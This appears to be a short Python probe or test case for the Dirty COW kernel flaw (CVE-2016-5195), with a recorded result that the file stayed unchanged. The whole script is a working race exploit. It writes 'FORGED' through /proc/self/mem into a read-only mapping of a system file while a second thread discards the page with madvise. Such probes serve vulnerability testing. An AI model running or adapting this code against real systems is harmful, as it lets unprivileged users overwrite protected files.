# Writes to a private, read-only mapping of a system file through /proc/self/mem, while it throws the copy away (CVE-2016-5195).
# verdict: COMPLETED
# prints: unchanged True
import ctypes, os, threading, time
path = os.path.realpath("/usr/lib/os-release")
before = open(path, "rb").read()
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
fd = os.open(path, os.O_RDONLY)
page = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))  # PROT_READ, MAP_PRIVATE
until = time.monotonic() + 0.3
def throw_away():
    while time.monotonic() < until:
        libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(4096), 4)  # MADV_DONTNEED
thread = threading.Thread(target=throw_away)
thread.start()
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < until:
        os.pwrite(memory, b"FORGED", page)
except OSError as error:
    print(error)
thread.join()
print("unchanged", open(path, "rb").read() == before)
